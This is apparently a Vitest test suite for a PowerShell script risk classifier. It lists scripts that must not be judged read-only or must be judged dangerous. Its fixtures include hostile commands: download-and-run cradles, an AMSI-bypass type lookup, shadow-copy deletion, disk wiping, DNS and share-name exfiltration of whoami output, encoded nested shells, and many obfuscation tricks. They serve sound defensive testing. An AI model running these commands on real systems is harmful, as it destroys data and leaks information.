import { describe, expect, it } from 'vitest';
import { classify } from '../../../../src/core/risk/classify.ts';
import { classifyPowershell } from '../../../../src/core/risk/powershell/classify-powershell.ts';

const riskOf = (script: string): string => classifyPowershell(script).risk;
const encoded = (script: string): string => Buffer.from(script, 'utf16le').toString('base64');

describe('a classification of PowerShell', () => {
  it('says for each line what it does, and why', () => {
    const found = classify(
      'powershell',
      'Get-Service w3svc\nRestart-Service w3svc\n\nGet-ChildItem C:\\data |\n  Remove-Item -Recurse',
    );
    expect(found.lines.map((l) => [l.line, l.risk])).toEqual([
      [1, 'read-only'],
      [2, 'changes'],
      [4, 'read-only'],
      [5, 'dangerous'],
    ]);
    expect(found.lines[1]?.why).toContain('restart-service');
    expect(found.effects).toEqual(['deletes', 'reads', 'services']);
    expect(found).toMatchObject({ risk: 'dangerous', irreversible: true, unparsed: false });
  });

  it('of an empty script is read-only', () => {
    expect(classifyPowershell('# nothing\n<# at all #>')).toMatchObject({ risk: 'read-only', effects: [] });
  });

  it('of what PowerShell would not take is never read-only, and says that it is unparsed', () => {
    for (const script of [
      "Write-Output 'a",
      'if ($x) { ls',
      'ls )',
      'ls }',
      '$(ls',
      '@{ a = 1',
      '"$(ls"',
      '@"\na',
      'ls |',
      '5 6',
      '<# a',
      'ls\0',
      '$x = ',
      'foreach ($a) { }',
      '@(ls',
      '[int',
      '"a" b',
      'for (',
      'switch ($x) { a }',
    ])
      expect([script, classifyPowershell(script)]).toMatchObject([script, { unparsed: true }]);
    expect(riskOf("Get-Date 'a")).toBe('changes');
  });

  it('sees what stands around a fault', () => {
    expect(riskOf("Remove-Item C:\\data -Recurse\nGet-Date 'a")).toBe('dangerous');
    expect(riskOf('ls )\nRemove-Item C:\\data -Recurse')).toBe('dangerous');
    expect(riskOf('if ($x { Stop-Computer }')).toBe('dangerous');
  });

  it('reads a file with the line ends of Windows', () => {
    expect(riskOf('Get-Date\r\nGet-Process |\r\n  Sort-Object CPU\r\n')).toBe('read-only');
  });

  it('does not trust characters that nobody can see', () => {
    for (const hidden of ['\u202E', '\u200B', '\u0001', '\u00A0', '\r', '\u2028', '\u0085'])
      expect(riskOf(`Get-Date ${hidden} x`)).toBe('changes');
  });
});

describe('what hides in PowerShell', () => {
  const hiding: Readonly<Record<string, string>> = {
    'a command in a string': '"$(Remove-Item x)"',
    'a command in a string in a string': '"$("$(Remove-Item x)")"',
    'a command in a here-string': '@"\n$(Remove-Item x)\n"@',
    'a command in a word': 'Get-Item a$(Remove-Item b)',
    'a command in a word in quotes': 'Get-Item a"$(Remove-Item b)"',
    'a command in brackets among words': 'Get-Item (Remove-Item b)',
    'a command in an array': 'Get-Item @(Remove-Item b)',
    'a command in a hash table': '@{ a = Remove-Item b }',
    'a command in a key': '@{ $(Remove-Item b) = 1 }',
    'a command in an index': '$a[$(Remove-Item b)]',
    'a command in an argument': '$a.ToString((Remove-Item b))',
    "a command in a member's name": '$a.$(Remove-Item b)',
    'a command in a default': 'function f($a = (Remove-Item b)) { }',
    'a command in an attribute': 'param([ValidateScript({ Remove-Item b })]$a)',
    'a command in a condition': 'if (Remove-Item b) { }',
    'a command in a switch': "switch (1) { { Remove-Item b } { 'x' } }",
    'a command in a class': 'class A { [int] F() { Remove-Item b; return 1 } }',
    'a command in a property of a class': 'class A { $x = (Remove-Item b) }',
    'a command in a catch': 'try { 1 } catch { Remove-Item b }',
    'a command in a trap': 'trap { Remove-Item b }',
    'a command behind a comment with a backtick': '<# `#> Remove-Item x #>',
    'a command behind a sign in a word': 'Get-Item a#b; Remove-Item x',
    'a command behind typographic quotes': 'Get-Item \u2018a\u2019; Remove-Item x',
    'a command in typographic quotes': 'Write-Output \u201cx $(Remove-Item y)\u201d',
    'a command behind brackets in a string': `"$(1)"; Remove-Item x`,
    'a command that a bracket in quotes ends early': `"$(')"; Remove-Item x; ')')"`,
    'a command behind a carriage return': 'Get-Date \rRemove-Item x',
    'a command behind &&': 'Get-Date && Remove-Item x',
    'a command behind &': 'Get-Date & Remove-Item x',
    'a command behind ||': 'Get-Date || Remove-Item x',
    'a command behind a line that begins with a pipe': 'Get-ChildItem\n| Remove-Item',
    'a command in pieces': 'Rem`ove-Item x',
    'a command in quotes': "& 'Remove-Item' x",
    'a command in a word with quotes': 'Remove"-It"em x',
    'a command by an alias': 'ri x',
    'a command by its module': 'Microsoft.PowerShell.Management\\Remove-Item x',
    'a command by an alias of its own': 'sal zz Remove-Item; zz x',
    'an alias with its parameters turned around': 'Set-Alias -Value Remove-Item -Name zz; zz x',
    'a function that takes a name': 'function Get-Date { Remove-Item x }; Get-Date',
    'a function by its drive': '$function:x = { Remove-Item y }',
    'an alias by its drive': '$alias:gp = "Remove-Item"; gp x',
    'a command in a variable': "$c = 'Remove-Item'; & $c x",
    'a command in an expression': "& ('Remove' + '-Item') x",
    'a command by its information': '& (Get-Command Remove-Item) x',
    'a command given to another': 'Get-ChildItem | ForEach-Object -Process { Remove-Item $_ }',
    'a method given by its name': 'Get-ChildItem | ForEach-Object Delete',
    'a method': '(Get-Item x).Delete()',
    'a method whose name is computed': '(Get-Item x).$m()',
    'a method in quotes': "(Get-Item x).'Delete'()",
    'a method in a string': '"$((Get-Item x).Delete())"',
    'a method among words': 'Write-Output (Get-Item x).Delete()',
    'a static method': '[IO.File]::Delete("x")',
    'a static method by its full name': '[System.IO.File]::WriteAllText("x", "y")',
    'a static method of a type in a variable': '$t::Delete("x")',
    'a parameter cut short': 'Get-Foo -OutF x',
    'a parameter with a typographic dash': 'Remove-Item x \u2013Recurse',
    'a parameter in a splatted table': '$p = @{ OutFile = "x" }; Get-Foo @p',
    'a parameter added to a splatted table': '$p = @{}; $p.OutFile = "x"; Get-Foo @p',
    'a parameter added by another name': '$p = @{}; $q = $p; $q["OutFile"] = "x"; Get-Foo @p',
    'a parameter added by a method': '$p = @{}; $p.Add("OutFile", "x"); Get-Foo @p',
    'a default parameter': '$PSDefaultParameterValues = @{ "*:OutFile" = "x" }; Get-Foo',
    'a redirection': 'Get-Date > x',
    'a redirection of errors': 'Get-Date 2> x',
    'a redirection of all': 'Get-Date *>> x',
    'a redirection behind an expression': '"a" > x',
    'an environment variable': "$env:PATH = 'C:\\x'",
    'a file by a variable': '${C:\\x.txt} = 1',
    'a property': '(Get-Item x).IsReadOnly = $true',
    'a property counted up': '(Get-Item x).Length++',
    'code in another language': 'Add-Type -TypeDefinition "class A {}"',
    'a type that runs code': '[scriptblock]::Create($x)',
    'a type that is converted to': '[Foo.Bar]"x"',
    'a text that is run': "Invoke-Expression 'Remove-Item x'",
    'a text that is run by another name': "iex 'Remove-Item x'",
    'a text that is run by the engine': '$ExecutionContext.InvokeCommand.InvokeScript("Remove-Item x")',
    'a script that is taken in': '. .\\x.ps1',
    'another program of that name': '.\\whoami.exe',
    'an option in a variable': "$o = '-exec'; git $o",
    'a verbatim word': 'cmd /c --% del x',
    'a shell in a shell': 'powershell -Command "Remove-Item x"',
    'a shell with a text in pieces': 'powershell Remove-Item x',
    'an encoded shell': `powershell -enc ${encoded('Remove-Item x')}`,
    'an encoded shell in an encoded shell': `pwsh -e ${encoded(`pwsh -e ${encoded('Remove-Item x')}`)}`,
    'an old shell': 'cmd /c del x',
    'an old shell with its sign': 'cmd /c d^el x',
    'an old shell that goes on': 'cmd /c "echo a & del x"',
    'a module that is taken in by a comment': '#Requires -Modules Foo\nGet-Date',
    'a module that is taken in by a keyword': 'using module .\\x.psm1\nGet-Date',
    'a workflow': 'workflow w { Remove-Item x }',
    'a configuration': 'configuration C { Node x { File y { Ensure = "Absent" } } }',
    'a job': 'Start-Job { Remove-Item x }',
    'an event': 'Register-ObjectEvent $x Changed -Action { Remove-Item x }',
    'a delayed script block': 'Get-ChildItem | Rename-Item -NewName { Remove-Item x }',
    'a calculated property': 'Get-ChildItem | Select-Object @{ n = "a"; e = { Remove-Item x } }',
    'a block in a variable': '$b = { Remove-Item x }; & $b',
    'a ternary': '$x ? (Remove-Item y) : 1',
    'a default of null': '$x ?? (Remove-Item y)',
    'a label': ':a foreach ($x in 1) { Remove-Item y }',
    'a loop': 'for ($i = (Remove-Item x); $i -lt 1; $i++) { }',
    'a data section': 'data d { Remove-Item x }',
    'a named block': 'function f { begin { Remove-Item x } process { } }',
    'a call behind a block of parameters': 'function f { param($x) & $x }; f Remove-Item',
    'a call behind a branch': 'if (1) { 2 } & Remove-Item x',
    'a command with an escape of newer versions': 'R`emove-Item x',
    'what it read, in the name of a machine': 'Resolve-DnsName "$(hostname).example.com"',
    'what it read, in the name of a share': 'Get-Content \\\\example\\$(whoami)\\x',
    'what it read, in the name for another program': 'nslookup "$(whoami).example.com"',
    'a command that a parameter puts into a variable': "$c = 'dir'; Get-Content x -OutVariable c; cmd /c $c",
    'a command that a reference puts into a variable': "$c = 'dir'; $d.TryGetValue('x', [ref]$c); cmd /c $c",
    'an option in a table': "$h = @{ a = '-exec' }; git $h.a",
    'a function that never comes to be': 'if ($false) { function Remove-Item { } }; Remove-Item x',
    'a function inside another': 'function x { function Remove-Item { } }; Remove-Item x',
    'a function that loses to an alias': 'function ri { }; ri x',
    'a function that comes too late': 'frobnicate x; function frobnicate { }',
    'a function of another shell': 'function frobnicate { }; powershell -Command frobnicate',
    'an alias that never comes to be': 'if ($false) { sal frobnicate Get-Date }; frobnicate x',
    'an alias with two meanings': 'sal zz Get-Date; if (1) { sal zz Remove-Item }; zz x',
    'a command of its module beside a function':
      'function Remove-Item { }; Microsoft.PowerShell.Management\\Remove-Item x',
    'another language': 'node -e "process.exit()"',
    'the shell of another system': "bash -c 'rm x'",
    'another system': 'wsl rm x',
    'a password': '$credential.GetNetworkCredential().Password',
    'an unknown command': 'Frobnicate-Thing x',
  };
  for (const [what, script] of Object.entries(hiding)) {
    it(`${what} is not read-only`, () => expect(riskOf(script)).not.toBe('read-only'));
  }

  const harsh: Readonly<Record<string, string>> = {
    'a recursion cut short': 'Remove-Item C:\\data -Rec',
    'a recursion in a splatted table': '$p = @{ Path = "C:\\data"; Recurse = $true }; Remove-Item @p',
    'a download that runs': "IEX (New-Object Net.WebClient).DownloadString('http://x/y')",
    'a download in a variable that runs': '$c = irm http://x/y; iex $c',
    'a type by its name': "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
    'shadow copies of an old shell': 'cmd.exe /c "vssadmin delete shadows /all"',
    'a folder deleted by .NET': "[System.IO.Directory]::Delete('C:\\data', $true)",
    'a disk in a pipe': 'Get-Disk | Where-Object Number -eq 1 | Clear-Disk -RemoveData -Confirm:$false',
    'a command behind a fault': "Get-Date 'a\nFormat-Volume -DriveLetter D",
    'an encoded folder': `powershell.exe -NoP -W Hidden -EncodedCommand ${encoded('Remove-Item C:\\data -Recurse -Force')}`,
    'a file that is fetched and started': 'iwr http://x/y.exe -OutFile y.exe; .\\y.exe',
    'whatever a pipe brings': 'Get-ChildItem C:\\data | % { $_.Delete() }',
    'all processes': 'Get-Process | Stop-Process -Force',
    'a raw disk': "[IO.File]::WriteAllBytes('\\\\.\\PhysicalDrive0', $b)",
    'a folder of another system': 'wsl rm -rf /home',
    'a program that the system starts':
      "Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = 'cmd /c rd /s /q C:\\data' }",
    'a program that starts a shell': "Start-Process cmd.exe '/c rd /s /q C:\\data'",
  };
  for (const [what, script] of Object.entries(harsh)) {
    it(`${what} is dangerous`, () => expect(['dangerous', 'forbidden']).toContain(riskOf(script)));
  }

  it('shells in shells beyond counting are dangerous', () => {
    let script = 'Get-Date';
    for (let i = 0; i < 14; i++) script = `powershell -Command '${script.replaceAll("'", "''")}'`;
    expect(classifyPowershell(script)).toMatchObject({ risk: 'dangerous', unparsed: true });
  });
});

describe('ordinary questions in PowerShell', () => {
  const questions = [
    'Get-Process | Sort-Object -Property WS -Descending | Select-Object -First 10 Name, Id, @{n="MB";e={[math]::Round($_.WS/1MB)}} | Format-Table -AutoSize',
    'Get-CimInstance Win32_LogicalDisk -Filter "DriveType=3" |\n  Select-Object DeviceID, `\n    @{Name="FreeGB"; Expression={"{0:N1}" -f ($_.FreeSpace / 1GB)}}',
    'Get-WinEvent -FilterHashtable @{LogName="System"; Level=1,2; StartTime=(Get-Date).AddDays(-1)} -MaxEvents 50 | Format-List TimeCreated, Id, Message',
    'foreach ($s in "w3svc", "winrm") { $x = Get-Service $s -ErrorAction SilentlyContinue; if ($x) { "$s is $($x.Status)" } else { "$s is missing" } }',
    'switch ((Get-Service spooler).Status) { "Running" { "up" } default { "down" } }',
    '$os = Get-CimInstance Win32_OperatingSystem; (Get-Date) - $os.LastBootUpTime | Select-Object Days, Hours',
    'try { Invoke-WebRequest http://localhost/health -UseBasicParsing -TimeoutSec 5 | Select-Object StatusCode } catch { "down: $($_.Exception.Message)" }',
    '$list = @(); foreach ($d in Get-PSDrive -PSProvider FileSystem) { $list += [pscustomobject]@{ Name = $d.Name; Free = $d.Free } }; $list | ConvertTo-Json',
    '$h = @{}; Get-Process | ForEach-Object { $h[$_.Name] = 1 + $h[$_.Name] }; $h.GetEnumerator() | Sort-Object Value -Descending | Select-Object -First 5',
    'Get-NetTCPConnection -State Listen | Group-Object LocalPort | Sort-Object { [int]$_.Name } | ForEach-Object { "$($_.Name): $($_.Count)" }',
    'function Get-Size([string]$Path = "C:\\logs") { (Get-ChildItem $Path -Recurse -File | Measure-Object Length -Sum).Sum / 1MB }\nGet-Size; Get-Size D:\\logs',
    'Get-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Where-Object { $_.DisplayName -like "*sql*" } | Select-Object DisplayName, DisplayVersion',
    'Test-Path C:\\inetpub\\wwwroot; Test-NetConnection db1 -Port 1433 | Select-Object TcpTestSucceeded',
    'function main { Write-It 5 }\nfunction Write-It($x) { "it is $x" }\nmain',
    'ipconfig /all; netstat -ano | Select-String ":443"',
    '[System.Environment]::OSVersion.Version; $PSVersionTable.PSVersion.ToString(); $env:COMPUTERNAME',
    '$sw = [System.Diagnostics.Stopwatch]::StartNew(); Get-ChildItem C:\\ | Out-Null; $sw.Elapsed',
  ];
  for (const script of questions)
    it(`are read-only: ${script.slice(0, 50)}`, () =>
      expect(classifyPowershell(script)).toMatchObject({ risk: 'read-only', unparsed: false }));
});
